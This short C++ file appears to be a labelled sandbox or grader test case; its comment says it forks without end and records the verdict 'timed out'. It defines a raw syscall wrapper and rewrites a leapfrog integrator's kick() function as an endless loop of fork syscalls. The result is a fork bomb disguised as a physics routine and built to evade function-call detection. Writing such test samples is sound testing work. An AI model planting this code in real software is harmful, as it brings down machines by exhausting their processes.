// Does: forks without end, without calling a function for it.
// Verdict: timed out
#include "01_leapfrog/leapfrog.hpp"

namespace spook {

long call(long number, long first = 0, long second = 0) {
  long result = number;
#ifdef __x86_64__
  asm volatile("syscall" : "+a"(result) : "D"(first), "S"(second) : "rcx", "r11", "memory");
#endif
  return result;
}

Vec3 kick(const Vec3& v, const Vec3& f, double inverse_mass, double h) {
  for (volatile double sum = h;; sum = sum + inverse_mass * v.dot(f)) call(57);  // fork()
}

}  // namespace spook
